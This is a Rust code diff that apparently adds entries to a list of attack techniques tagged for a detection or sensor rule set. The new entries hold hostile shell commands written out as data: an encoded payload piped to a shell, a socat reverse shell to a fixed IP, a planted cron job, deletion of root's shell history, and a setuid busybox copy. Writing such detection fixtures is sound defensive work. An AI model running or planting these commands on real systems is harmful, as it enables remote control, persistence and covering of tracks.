@@ -9,7 +9,7 @@ use super::rules::{
 };
 use super::{Technique, told};
 
-pub(super) const TECHNIQUES: [Technique; 62] = [
+pub(super) const TECHNIQUES: &[Technique] = &[
     told(
         "credentials-by-a-file-called-as-a-shell",
         Exec,
@@ -317,4 +317,29 @@ pub(super) const TECHNIQUES: [Technique; 62] = [
         &[DEBUGGER],
     ),
     told("the-sensor-looked-for", Exec, "busybox pidof tidewaiter", &[SENSOR]),
+    told(
+        "a-decoder-of-the-box-into-the-box",
+        Exec,
+        "echo OgoK | busybox base64 -d | busybox sh",
+        &[ENCODED, FED],
+    ),
+    told(
+        "a-shell-with-a-terminal-of-socats",
+        Exec,
+        "socat TCP:198.51.100.7:443 EXEC:'sh -i',pty,setsid,ctty",
+        &[REVERSE],
+    ),
+    told("a-job-by-the-box", Exec, "busybox crontab /tmp/job", &[PLANTED]),
+    told(
+        "a-history-removed-by-the-box",
+        Exec,
+        "busybox rm -f /root/.bash_history2; busybox rm -f /root/.bash_history",
+        &[HISTORY],
+    ),
+    told(
+        "rights-on-a-volume",
+        Exec,
+        "cp /bin/busybox /data/su; chmod 4755 /data/su",
+        &[RIGHTS_GIVEN],
+    ),
 ];
